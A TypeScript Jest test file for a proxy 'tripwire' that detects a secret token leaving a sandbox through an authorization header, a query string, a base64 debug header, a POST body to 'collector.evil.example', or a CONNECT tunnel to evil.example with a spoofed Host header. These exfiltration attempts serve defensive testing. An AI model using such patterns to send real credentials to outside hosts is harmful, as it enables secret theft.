import { spawn } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { connect as secure } from 'node:tls';
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { startNamedHosts, type NamedHosts } from '../support/named-hosts.ts';
import { perOrigin, tripwire } from '../support/tripwire.ts';

const token = 'a-token-that-must-not-travel';
const inBase64 = Buffer.from(token).toString('base64');

let server: Server;
let hosts: NamedHosts;
beforeAll(async () => {
  server = createServer((_, response) => response.end('{}')).listen(0, '127.0.0.1');
  await new Promise((listening) => server.once('listening', listening));
  const target = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  hosts = await startNamedHosts({ hosts: { 'api.github.com': target, 'fulcio.sigstore.dev': target } });
});
afterEach(() => hosts.forget());
afterAll(async () => {
  await hosts.close();
  await new Promise((closed) => server.close(closed));
});

/** What became of a request by a program that was told the proxy. */
async function asked(url: string, init: object, without: readonly string[] = []): Promise<string> {
  const source = `fetch(${JSON.stringify(url)}, ${JSON.stringify(init)}).then((a) => a.status, () => 'failed').then(console.log)`;
  const environment = Object.entries(hosts.environment).filter(([name]) => !without.includes(name));
  const child = spawn(process.execPath, ['-e', source], { env: Object.fromEntries(environment) });
  return (await text(child.stdout)).trim();
}

describe('the tripwire goes off', () => {
  test.each([
    [
      'an authorization',
      'https://fulcio.sigstore.dev/',
      { headers: { authorization: `Bearer ${token}` } },
      '200',
      'authorization for https://fulcio.sigstore.dev',
    ],
    [
      'somebody else’s authorization',
      'https://fulcio.sigstore.dev/',
      { headers: { authorization: 'Basic eDp5' } },
      '200',
      'authorization for https://fulcio.sigstore.dev',
    ],
    [
      'the right host without TLS',
      'http://api.github.com/',
      { headers: { authorization: `Bearer ${token}` } },
      '403',
      'authorization for http://api.github.com',
    ],
    [
      'another port',
      'https://api.github.com:8443/',
      { headers: { authorization: `Bearer ${token}` } },
      '403',
      'authorization for https://api.github.com:8443',
    ],
    [
      'another header',
      'https://fulcio.sigstore.dev/',
      { headers: { 'x-debug': inBase64 } },
      '200',
      'token in another header for https://fulcio.sigstore.dev',
    ],
    [
      'an address',
      `https://api.github.com/?access_token=${token}`,
      {},
      '200',
      'token in an address at https://api.github.com',
    ],
    [
      'a body for a closed host',
      'https://collector.evil.example/',
      { method: 'POST', body: `{"it":"${token}"}` },
      '403',
      'token in a body for https://collector.evil.example',
    ],
  ])('at %s', async (_, url, init, outcome, alarm) => {
    expect(await asked(url, init)).toBe(outcome);
    const requests = await hosts.requests();
    expect(requests).toHaveLength(1);
    expect(requests[0]?.refused).toBe(outcome === '403');
    expect(tripwire(requests, [token])).toEqual([alarm]);
  });

  test('and is silent where the token belongs', async () => {
    expect(await asked('https://api.github.com/', { headers: { authorization: `Bearer ${token}` } })).toBe('200');
    const requests = await hosts.requests();
    expect(perOrigin(requests)).toEqual({ 'https://api.github.com': 1 });
    expect(tripwire(requests, [token])).toEqual([]);
  });

  test('at a closed host behind the name of an open one', async () => {
    const tunnel = connect(hosts.port, '127.0.0.1');
    tunnel.write('CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n');
    await new Promise((answered) => tunnel.once('data', answered));
    const socket = secure({ socket: tunnel, servername: 'evil.example', rejectUnauthorized: false });
    socket.write(
      `GET / HTTP/1.1\r\nHost: api.github.com\r\nConnection: close\r\nAuthorization: token ${token}\r\n\r\n`,
    );
    expect(await text(socket)).toMatch(/^HTTP\/1\.1 403 /);
    const requests = await hosts.requests();
    expect(requests.map(({ origin, refused }) => [origin, refused])).toEqual([['https://evil.example', true]]);
    expect(tripwire(requests, [token])).toEqual(['authorization for https://evil.example']);
  });
});

test('a program that does not trust the authority gets nowhere, and the attempt is kept', async () => {
  expect(await asked('https://api.github.com/', {}, ['NODE_EXTRA_CA_CERTS'])).toBe('failed');
  expect(await hosts.requests()).toEqual([]);
  expect(hosts.broken).toEqual([expect.stringMatching(/^api\.github\.com: /)]);
});
